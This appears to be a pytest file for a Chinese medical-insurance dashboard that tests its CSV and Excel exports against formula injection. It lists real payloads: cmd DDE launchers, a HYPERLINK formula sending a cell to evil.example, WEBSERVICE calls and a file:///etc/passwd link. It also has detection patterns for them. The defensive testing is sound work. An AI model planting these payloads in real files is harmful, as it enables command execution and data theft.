"""Every download: complete, Chinese intact, and nothing in it that a spreadsheet would run, fetch or follow."""

import csv
import io
import os
import re
import shutil
import zipfile
from datetime import date
from pathlib import Path

import pytest
import streamlit
from python_calamine import CalamineWorkbook
from streamlit.delta_generator import DeltaGenerator

import pipelines
from pipelines import sampling
from pipelines.answers import rows as answered_rows
from pipelines.handbook.templates import all_templates, every_layout, template
from pipelines.methods import methods
from pipelines.spreadsheets import harmless, xlsx_bytes
from tests import files
from tests.views.app import healthy, opened, words
from tests.views.test_pages import PAGES
from views import look, preparing, takeaway, upload_problems

HOSTILE = [
    "=cmd|'/c calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("http://evil.example")',
    "\t=1+1",
    " =1+2",
    "　=1+3",
    "\u00a0+4",
    "\ufeff=1+1",
    "\u200b@A1",
    "＝1+1",
    "＋1＋1",
    "－1－1",
    "＠SUM(A1)",
    "http://evil.example/云溪",
    "mailto:x@evil.example",
    "file:///etc/passwd",
    "云溪县人民医院𠮷㐂",
]
NUMBER = re.compile(r"[-+]?\d[\d,]*(\.\d+)?%?")
RUNS = re.compile(r"[\s\x00-\x20\u00a0\u200b\ufeff\u3000]*[=+\-@＝＋－＠]")
IN_XLSX = re.compile(
    r"<(f|hyperlink|ddeLink|oleLink|oleObject|externalReference|webPublish)[ />]|Target=\"(http|file|mailto)"
)


def live(cell: str) -> bool:
    """Whether a spreadsheet might take a cell of a CSV for a formula."""
    return bool(RUNS.match(cell)) and not NUMBER.fullmatch(cell)


def cells_of(content: bytes) -> list[list[str]]:
    """The rows of a CSV that Excel opens with Chinese intact, all of one width."""
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    return rows


def sheets_of(content: bytes) -> dict[str, list[list]]:
    """The sheets of a workbook in which nothing runs and nothing leads outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            assert not re.search("vba|macro|externalLink|activeX|embed|queryTable|connections", name, re.I), name
            assert not IN_XLSX.search(archive.read(name).decode("utf-8")), name
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


# ---------------------------------------------------------------- cells


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_dead_in_a_csv_and_whole_in_a_workbook(text):
    ((_,), (cell,)) = cells_of(look.csv_bytes(["名称"], [[text]]))
    assert not live(cell)
    assert cell.removeprefix("'") == text
    assert sheets_of(xlsx_bytes(["名称"], [[text]])) == {"数据": [["名称"], [text]]}


@pytest.mark.parametrize("cell", ["云溪镇", "1-2", "a=b", "2026-01-01", "'x", ""])
def test_other_text_is_left_as_it_is(cell):
    assert harmless(cell) == cell


# ---------------------------------------------------------------- the dashboard's


@pytest.fixture(scope="module")
def hostile_county(tmp_path_factory) -> Path:
    """A county whose towns, institutions, cases and notes bear hostile text."""
    folder = tmp_path_factory.mktemp("hostile")
    quoted = ['"' + text.replace('"', '""') + '"' for text in HOSTILE]
    codes = [f"H9901010{n:04d}" for n in range(len(HOSTILE))]
    towns = [{"乡镇": t} for t in quoted]
    places = [{"机构编码": c, "机构名称": t, "乡镇": t, "协议编号": t} for c, t in zip(codes, quoted, strict=True)]
    stays = [{"定点医药机构编号": c, "乡镇": t, "人员编号": c} for c, t in zip(codes, quoted, strict=True)]
    cases = [{"案件编号": f'"{n}{t[1:]}', "违规事实": t, "决定文号": t, "机构名称": t} for n, t in enumerate(quoted)]
    for name, base, changes in (
        ("enrolment", files.ENROLMENT, towns),
        ("institutions", files.INSTITUTION, places),
        ("settlements", files.SETTLEMENT, stays),
        ("penalties", files.PENALTY, cases),
        ("collection", files.COLLECTION, [{}]),
        ("audit", files.AUDIT, [{}]),
        ("targets", files.TARGET, [{"机构编码": code, "扣减办法": t} for code, t in zip(codes, quoted, strict=True)]),
    ):
        files.write(folder, files.rows(base, *changes), f"{name}.csv")
    receipts = pipelines.load(folder / "warehouse", [folder], "=cmd|'/c calc'!A0")
    assert {r.status for r in receipts} == {"loaded"}, [p.text for r in receipts for p in r.problems]
    return folder / "warehouse"


@pytest.fixture
def offered(monkeypatch) -> dict[str, bytes]:
    """What the page opened last offers to download: file name -> content. A link opens 总览 first.

    PDFs have tests of their own, and a page is not yet whole where its button stands.
    """
    found: dict[str, bytes] = {}
    header = look.header

    def another(title):
        found.clear()
        return header(title)

    def button(label, data, file_name=None, *more, **options):
        if file_name.endswith(".pdf"):
            return
        content = data() if callable(data) else data
        found[file_name] = content.encode() if isinstance(content, str) else bytes(content)

    def prepared(label, name, write, key):
        target = io.BytesIO()
        assert write(target, lambda share, what: None) > 0
        found[name] = target.getvalue()

    monkeypatch.setattr(look, "header", another)
    monkeypatch.setattr(preparing, "offer", prepared)
    monkeypatch.setattr(streamlit, "download_button", button)
    monkeypatch.setattr(DeltaGenerator, "download_button", lambda self, *given, **options: button(*given, **options))
    return found


VIEWS = [(page, {"kpi": "insured_persons"} if page == "rows" else {}) for page in (*PAGES, "journal")]
VIEWS += [("rows", {"kpi": "inpatient_cases"}), ("institutions", {"inst": "H99010100004"})]


@pytest.mark.parametrize(("page", "query"), VIEWS)
def test_what_a_page_offers_is_complete_and_dead(hostile_county, offered, monkeypatch, page, query):
    opened(hostile_county, monkeypatch, page, **query)
    for name, content in offered.items():
        if name.endswith(".csv"):
            rows = cells_of(content)
            assert [cell for row in rows for cell in row if live(cell)] == [], name
            assert len(rows) > 1, name
        if name.endswith(".xlsx"):
            assert sheets_of(content)
    assert offered, "a page without a download would prove nothing"


def test_the_files_of_a_sample_come_whole_in_both_forms(sample_warehouse, offered, monkeypatch, tmp_path):
    warehouse = Path(shutil.copytree(sample_warehouse, tmp_path / "warehouse", copy_function=os.link))
    scope = sampling.Scope("2026-01", "2026-06", "resident")
    county = pipelines.open_county(warehouse)
    plan = sampling.make(warehouse, county, sampling.Draft(scope, "42", clues=0, amounts=3), "张三", "二季度抽查", {})
    opened(warehouse, monkeypatch, "sampling", plan=plan.id)
    found = {name.split()[0]: pair for name, pair in in_pairs(offered).items()}
    assert {name: len(rows) - 1 for name, (rows, _) in found.items()} == {"病历清单": len(plan.files), "抽样方案": 1}
    assert {name: unlike(*pair) for name, pair in found.items()} == {name: [] for name in found}


@pytest.mark.parametrize(("page", "counted"), [("audit", "全部"), ("work", "全部"), ("balance", "居民")])
def test_the_name_of_a_file_says_the_scheme_that_it_counts(sample_warehouse, offered, monkeypatch, page, counted):
    opened(sample_warehouse, monkeypatch, page, s="resident")
    (name,) = (name for name in offered if name.endswith(f" {counted}.csv"))
    assert "2026年1—6月" in name


def alike(in_csv: str, in_xlsx) -> bool:
    """Whether a workbook's cell says what the CSV's says: text letter by letter, a number to its 16 digits."""
    if isinstance(in_xlsx, float):
        return float(f"{float(in_csv):.16g}") == in_xlsx
    if isinstance(in_xlsx, date):
        return in_csv == in_xlsx.isoformat()
    return in_csv == harmless(in_xlsx)


def unlike(csv_rows: list[list[str]], sheet: list[list]) -> list[tuple]:
    """The cells in which two tables of one shape differ."""
    assert [len(row) for row in csv_rows] == [len(row) for row in sheet]
    pairs = ((a, b) for left, right in zip(csv_rows, sheet, strict=True) for a, b in zip(left, right, strict=True))
    return [pair for pair in pairs if not alike(*pair)]


def in_pairs(offered: dict[str, bytes]) -> dict[str, tuple]:
    """Name of a table -> (rows of its CSV, rows of its workbook's only sheet). A letter is text, and no table."""
    tables = [name for name in offered if not name.endswith(".txt")]
    names = dict.fromkeys(name.rpartition(".")[0] for name in tables)
    assert set(tables) == {f"{name}.{kind}" for name in names for kind in ("csv", "xlsx")}
    sheets = {name: list(sheets_of(offered[f"{name}.xlsx"]).values()) for name in names}
    assert all(len(found) == 1 for found in sheets.values())
    return {name: (cells_of(offered[f"{name}.csv"]), sheets[name][0]) for name in names}


@pytest.mark.parametrize(("page", "query"), VIEWS)
def test_every_table_comes_as_a_workbook_with_the_heads_and_rows_of_its_csv(
    hostile_county, offered, monkeypatch, page, query
):
    opened(hostile_county, monkeypatch, page, **query)
    found = in_pairs(offered)
    assert found
    assert {name: unlike(*pair) for name, pair in found.items()} == {name: [] for name in found}


TABLES = {
    "costs": ("费用控制", "机构费用对比"),
    "institutions": ("两定机构名册", "机构协议结算核对"),
    "clues": ("疑点线索", "疑点线索的结算行", "疑点线索规则"),
    "audit": ("稽核处罚", "稽核处罚台账", "处理与款项", "从结算款抵扣"),
    "cases": ("案件", "处理与款项"),
    "assessment": ("考核结果（按机构）", "考核结果（逐项）", "2026年考核目标", "2027年考核目标草稿"),
    "payment": ("支付方式改革", "试点与非试点机构", "试点与非试点的特征", "最相近的非试点"),
    "outlook": ("基金运行预测", "基金预测逐月区间", "基金预测人次次均", "基金预测回测", "基金预测情景"),
    "attribution": ("增长归因", "增长归因各组", "增长归因各因素"),
    "dictionary": ("指标字典", "测算方法"),
    "journal": ("操作记录",),
}


@pytest.mark.parametrize("page", [*TABLES])
def test_the_tables_of_the_sample_county_come_whole_in_both_forms(sample_warehouse, offered, monkeypatch, page):
    opened(sample_warehouse, monkeypatch, page)
    found = in_pairs(offered)
    assert {name.partition(" ")[0] for name in found} == set(TABLES[page])
    few = {"基金运行预测": 4, "基金预测人次次均": 4, "基金预测回测": 2, "基金预测情景": 1}
    least = few | {"测算方法": len(methods()) - 1, "增长归因各组": 3}  # rows, without the heads
    assert all(len(rows) > least.get(name.partition(" ")[0], 5) for name, (rows, _) in found.items())
    assert {name: unlike(*pair) for name, pair in found.items()} == {name: [] for name in found}


def test_an_amount_is_a_number_and_a_day_a_day_in_the_workbook_of_rows(sample_warehouse, offered, monkeypatch):
    opened(sample_warehouse, monkeypatch, "rows", kpi="inpatient_cases", m="2026-06..2026-06", s="resident")
    ((rows, sheet),) = in_pairs(offered).values()
    assert len(rows) > 100
    assert unlike(rows, sheet) == []
    first = dict(zip(sheet[0], sheet[1], strict=True))
    assert isinstance(first["医疗总费用（元）"], float)
    assert isinstance(first["结算日期"], date)
    assert isinstance(first["人员代号"], str)


def test_very_many_rows_are_read_beside_the_page_and_shown_as_any_others(sample_warehouse, monkeypatch):
    asked = {"kpi": "inpatient_cases", "m": "2026-06..2026-06", "s": "resident"}
    few = opened(sample_warehouse, monkeypatch, "rows", **asked)
    monkeypatch.setattr(answered_rows, "MANY", 0)
    many = opened(sample_warehouse, monkeypatch, "rows", **asked)
    assert "rows_taken" in many.session_state and "rows_taken" not in few.session_state
    assert healthy(many) and many.dataframe[0].value.equals(few.dataframe[0].value)


def test_more_rows_than_a_workbook_is_made_for_come_as_csv_and_the_page_says_so(sample_warehouse, offered, monkeypatch):
    monkeypatch.setattr(takeaway, "LARGEST", 100)
    app = opened(sample_warehouse, monkeypatch, "rows", kpi="inpatient_cases", m="2026-06..2026-06", s="resident")
    assert [name.rpartition(".")[2] for name in offered] == ["csv"]
    assert len(cells_of(*offered.values())) > 101
    assert "超过 100 行，只有 CSV" in words(app)


def test_rows_are_asked_for_only_when_the_file_is():
    asked = []
    file = look.File("名册", ["编码"], lambda: asked.append(1) or [["H1"]])
    assert asked == []
    assert cells_of(file.csv())[1:] == [["H1"]]
    assert list(sheets_of(file.xlsx()).values()) == [[["编码"], ["H1"]]]
    assert asked == [1, 1]


def test_hostile_names_are_in_the_downloads_letter_by_letter(hostile_county, offered, monkeypatch):
    """Else the cells above might be dead because they are missing."""
    written = set()
    for page, query in (("rows", {"kpi": "insured_persons"}), ("institutions", {}), ("audit", {})):
        opened(hostile_county, monkeypatch, page, **query)
        files = [content for name, content in offered.items() if name.endswith(".csv")]
        written |= {cell for content in files for row in cells_of(content) for cell in row}
    kept = {text.strip(" \t　\u00a0") for text in HOSTILE}
    assert {harmless(text) for text in kept} <= written


# ---------------------------------------------------------------- uploads


def test_the_problems_of_a_hostile_file_are_complete_and_dead_in_both_forms(tmp_path):
    quoted = ['"' + text.replace('"', '""') + '"' for text in HOSTILE]
    hostile = [{"医疗费总额": text, "乡镇": text} for text in quoted]
    found = files.staged(tmp_path, files.rows(files.SETTLEMENT, *hostile))
    assert len(found.problems) >= len(HOSTILE)
    rows = cells_of(look.csv_bytes(upload_problems.HEADS, map(upload_problems.record, found.problems)))
    assert len(rows) == len(found.problems) + 1
    assert [cell for row in rows for cell in row if live(cell)] == []
    listed, faulty = sheets_of(upload_problems.workbook(found)).values()
    assert len(listed) == len(found.problems) + 1
    assert set(HOSTILE) <= {cell for row in faulty for cell in row}


def test_a_file_with_a_hostile_header_has_a_dead_list_of_problems(tmp_path):
    heads = {'"' + text.replace('"', '""') + '"': "1" for text in HOSTILE}
    found = files.staged(tmp_path, files.rows(files.SETTLEMENT | heads, {}))
    assert found.problems
    assert sheets_of(upload_problems.workbook(found))
    rows = cells_of(look.csv_bytes(upload_problems.HEADS, map(upload_problems.record, found.problems)))
    assert [cell for row in rows for cell in row if live(cell)] == []


@pytest.mark.parametrize(("contract", "layout"), list(every_layout()))
def test_a_template_is_dead_and_has_every_column(contract, layout):
    headers = [column.header for column in layout.columns.values()]
    _, content = template(contract.table, layout.name, "csv")
    rows = cells_of(content)
    assert rows[0] == headers
    assert [cell for row in rows for cell in row if live(cell)] == []
    sheets = sheets_of(template(contract.table, layout.name, "xlsx")[1])
    assert [str(cell) for cell in next(iter(sheets.values()))[0]] == headers


def test_the_archive_of_all_templates_opens_and_its_names_are_chinese():
    _, content = all_templates()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        assert all(re.search("[\u4e00-\u9fff]", name) for name in archive.namelist())


def test_names_of_downloads_hold_nothing_that_a_disk_refuses_or_nobody_sees(monkeypatch):
    found = []
    monkeypatch.setattr(
        streamlit, "download_button", lambda label, data, name="", file_name="", **more: found.append(name or file_name)
    )
    name = '一院一函 ../<b>"\u202e院\u0000 6月'
    look.downloads({"下载": (f"{name}.pdf", b"")})
    takeaway.button("CSV", takeaway.File(name, (), list), "csv", "key")
    assert found == ["一院一函 .._b_院 6月.pdf", "一院一函 .._b_院 6月.csv"]
